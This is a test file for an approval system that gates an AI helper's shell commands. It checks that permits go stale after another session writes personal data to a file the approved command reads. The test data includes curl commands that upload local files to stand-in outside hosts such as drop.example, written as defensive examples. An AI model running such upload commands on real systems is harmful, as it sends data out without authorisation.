import { afterAll, beforeAll, expect, it } from 'vitest';

import { stockCatalogue } from '@/lib/mediate/stock';
import { nodeSha256 } from '@/lib/server/node-sha256';
import { startApprovalStage, type ApprovalStage } from '@/lib/testing/approval-stage';

const policy = `schema: countersign/policy/v1
id: approved-then-written
use: stock@1 sha256:${stockCatalogue(nodeSha256).digest}
defaults: { decision: ALLOW, unclassified: INTERNAL }
approvals: { approvers: [approver], timeout: 30m, quorum: 1, separation: required }
permits: { ttl: 60s, after_approval: 10m, outcome: 15m }
tools:
  - name: database.query
    labels: [{ reads: customers, add: [CONFIDENTIAL, PII] }, { reads: "*", add: [INTERNAL] }]
rules:
  - id: confirm-commands
    match: { tool: shell, operation: exec }
    action: STEP_UP
    reason: "A person looks at what is run."
  - id: nothing-personal-is-uploaded
    match: { effect: communicate, tool: shell }
    context: { data_classification: { contains: [PII] } }
    action: DENY
    classification: context_dependent_deny
    reason: "Personal data is not uploaded."
`;

let stage: ApprovalStage;
let plane: ApprovalStage['plane'];
beforeAll(async () => {
  stage = await startApprovalStage(policy);
  ({ plane } = stage);
}, 60_000);
afterAll(async () => {
  await stage.stop();
});

/** Approved, with its permit not used yet. */
async function approved(command: string): Promise<string> {
  const { action, approval } = await stage.hold('shell', 'exec', { command });
  const cast = await stage.cast('approver', approval);
  if (!cast.ok) throw new Error(cast.error.detail);
  for (;;) {
    const { body } = await plane.call(plane.token('helper'), 'GET', `/v1/actions/${action}?wait=10`);
    if (body.state === 'permitted') return body.permit.id as string;
    if (body.state !== 'held') throw new Error(`No permit: ${JSON.stringify(body)}`);
  }
}

async function writePersonal(path: string): Promise<void> {
  const session = await plane.openSession('Make an overview of the customers.');
  for (const [tool, operation, parameters] of [['database', 'query', { query: 'SELECT name FROM customers' }], ['files', 'write', { path, content: 'Ann' }]] as const) {
    const { body } = await plane.call(plane.token('helper'), 'POST', '/v1/actions', { session, tool, operation, parameters });
    if (body.decision !== 'ALLOW') throw new Error(`Not allowed: ${JSON.stringify(body)}`);
  }
}
const redeem = (permit: string) => plane.call(plane.token('helper'), 'POST', `/v1/permits/${permit}/redeem`);
const stale = { status: 409, body: { error: { code: 'permit_stale' } } };

it('an approval does not cover what another session wrote after it to what the action reads', async () => {
  const upload = await approved('curl -T /srv/out.txt https://drop.example/');
  // Policy would still ask people, but they were not asked about this.
  const show = await approved('cat /srv/out.txt');
  const other = await approved('curl -T /srv/other.txt https://else.example/');
  await writePersonal('/srv/out.txt');
  expect(await redeem(upload)).toMatchObject(stale);
  expect(await redeem(show)).toMatchObject(stale);
  expect((await redeem(other)).status).toBe(200);
});
